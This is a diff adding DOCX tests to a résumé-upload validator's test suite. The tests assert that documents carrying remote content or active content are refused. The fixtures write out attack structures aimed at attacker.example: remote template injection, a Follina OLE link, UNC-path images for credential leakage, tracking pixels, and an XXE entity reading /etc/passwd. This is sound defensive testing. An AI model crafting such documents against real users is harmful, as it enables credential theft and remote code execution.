@@ -22,7 +22,13 @@ from pypdf.generic import (
 )
 
 from candidates.filetypes import _pdf_raw_has_active_content, _pdf_raw_has_remote_actions
-from tests.candidates.test_filetypes import build_pdf, inspect, pack_object_stream_pdf, refusal
+from tests.candidates.test_filetypes import (
+    build_docx,
+    build_pdf,
+    inspect,
+    pack_object_stream_pdf,
+    refusal,
+)
 
 UNC_PDF = "\\\\attacker.example\\share\\logo.pdf"
 TRACKER = "https://tracker.example/open?id=4711"
@@ -263,3 +269,146 @@ def test_raw_pdf_scan_for_remote_actions_ignores_lookalikes():
     assert _pdf_raw_has_remote_actions(b"<< /S /SubmitForm >>")
     assert _pdf_raw_has_remote_actions(b"<</S/ImportData/F(x)>>")
     assert not _pdf_raw_has_remote_actions(b"<< /GoToRemote 1 /SubmitFormat 2 /URI (x) >>")
+
+
+# --- DOCX --------------------------------------------------------------------------------------
+
+RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def rels(*relationships: tuple[str, str, str | None]) -> bytes:
+    """A relationships part: (type, target, target mode) for each relationship."""
+    rows = "".join(
+        f'<Relationship Id="rId{number}" Type="{kind if "/" in kind else f"{REL}/{kind}"}" '
+        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
+        for number, (kind, target, mode) in enumerate(relationships, start=1)
+    )
+    return (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="{RELATIONSHIPS}">{rows}</Relationships>'
+    ).encode()
+
+
+def document_xml(body: str) -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}" xmlns:r="{REL}">'
+        f"<w:body><w:p><w:r><w:t>Jane Example</w:t></w:r></w:p>{body}</w:body></w:document>"
+    ).encode()
+
+
+def docx_with_rels(part: str, *relationships, **members: bytes) -> bytes:
+    return build_docx({part: rels(*relationships), **members})
+
+
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+UNC_IMAGE = "\\\\attacker.example\\share\\pixel.png"
+
+
+def test_docx_with_clickable_links_is_accepted():
+    data = docx_with_rels(
+        DOCUMENT_RELS,
+        ("styles", "styles.xml", None),
+        ("hyperlink", LINKEDIN, "External"),
+        ("hyperlink", "mailto:jane@example.com", "External"),
+        (f"{STRICT_REL}/hyperlink", "https://github.com/jane-example", "External"),
+        ("image", "media/image1.png", None),
+    )
+    assert inspect(data, "resume.docx").kind == "docx"
+
+
+REMOTE_DOCX = {
+    # Remote template injection: Word fetches (and runs the macros of) the template on opening.
+    "remote-template-http": (SETTINGS_RELS, "attachedTemplate", "https://attacker.example/t.dotm"),
+    "remote-template-unc": (
+        SETTINGS_RELS,
+        "attachedTemplate",
+        "file:///\\\\attacker.example\\t.dotx",
+    ),
+    # Follina (CVE-2022-30190): an OLE object linked to a web page runs ms-msdt.
+    "follina-ole-link": (DOCUMENT_RELS, "oleObject", "https://attacker.example/index.html!"),
+    "image-on-unc-path": (DOCUMENT_RELS, "image", UNC_IMAGE),
+    "tracking-pixel": (DOCUMENT_RELS, "image", TRACKER),
+    "frame": ("word/_rels/webSettings.xml.rels", "frame", "https://attacker.example/f.html"),
+    "sub-document": (DOCUMENT_RELS, "subDocument", "\\\\attacker.example\\share\\part2.docx"),
+    "strict-image": (DOCUMENT_RELS, f"{STRICT_REL}/image", TRACKER),
+    "package-level": ("_rels/.rels", "officeDocument/2006/relationships/x", TRACKER),
+    "header-image": ("word/_rels/header1.xml.rels", "image", UNC_IMAGE),
+    "upper-case-part-name": ("word/_rels/Document.xml.RELS", "image", UNC_IMAGE),
+}
+
+
+@pytest.mark.parametrize(("part", "kind", "target"), REMOTE_DOCX.values(), ids=REMOTE_DOCX.keys())
+def test_docx_that_loads_content_from_other_computers(part, kind, target):
+    if kind.startswith("officeDocument"):
+        kind = f"http://schemas.openxmlformats.org/{kind}"
+    data = docx_with_rels(part, ("styles", "styles.xml", None), (kind, target, "External"))
+    rejected = refusal(data, "resume.docx")
+    assert rejected.code == "remote_content"
+    assert "other computers" in rejected.message
+
+
+@pytest.mark.parametrize("mode", ["external", " External "])
+def test_docx_external_target_mode_in_any_spelling(mode):
+    data = docx_with_rels(DOCUMENT_RELS, ("image", UNC_IMAGE, mode))
+    assert refusal(data, "resume.docx").code == "remote_content"
+
+
+@pytest.mark.parametrize("target", [UNC_IMAGE, TRACKER, "//attacker.example/share/x.png"])
+def test_docx_remote_target_without_external_mode(target):
+    # The target is a network address whatever the relationship claims to be.
+    data = docx_with_rels(DOCUMENT_RELS, ("image", target, None))
+    assert refusal(data, "resume.docx").code == "remote_content"
+
+
+def test_docx_with_an_embedded_ole_object():
+    data = docx_with_rels(
+        DOCUMENT_RELS,
+        ("oleObject", "embeddings/oleObject1.bin", None),
+        **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
+    )
+    rejected = refusal(data, "resume.docx")
+    assert rejected.code == "active_content"
+    assert "embedded" in rejected.message
+
+
+def test_docx_with_a_file_in_its_embeddings_folder():
+    data = build_docx({"word/embeddings/Microsoft_Word_Document.docx": build_docx()})
+    assert refusal(data, "resume.docx").code == "active_content"
+
+
+@pytest.mark.parametrize("kind", ["oleObject", "package", "aFChunk"])
+def test_docx_embedding_relationship_anywhere_in_the_package(kind):
+    data = docx_with_rels(DOCUMENT_RELS, (kind, "media/image1.bin", None))
+    assert refusal(data, "resume.docx").code == "active_content"
+
+
+def test_docx_with_an_alt_chunk():
+    # altChunk imports another document (HTML, MHT, RTF) as-is; its pictures load from the web.
+    chunk = f'<html><body><img src="{TRACKER}">Jane</body></html>'.encode()
+    data = docx_with_rels(
+        DOCUMENT_RELS,
+        ("aFChunk", "chunk.html", None),
+        **{
+            "word/document.xml": document_xml('<w:altChunk r:id="rId1"/>'),
+            "word/chunk.html": chunk,
+        },
+    )
+    rejected = refusal(data, "resume.docx")
+    assert rejected.code == "active_content"
+
+
+def test_docx_with_malformed_relationships():
+    data = build_docx({DOCUMENT_RELS: b"<Relationships><Relationship Target="})
+    assert refusal(data, "resume.docx").code == "corrupt"
+
+
+def test_docx_relationships_with_an_entity_declaration():
+    evil = (
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        b'<Relationships xmlns="' + RELATIONSHIPS.encode() + b'">&x;</Relationships>'
+    )
+    assert refusal(build_docx({DOCUMENT_RELS: evil}), "resume.docx").code == "corrupt"
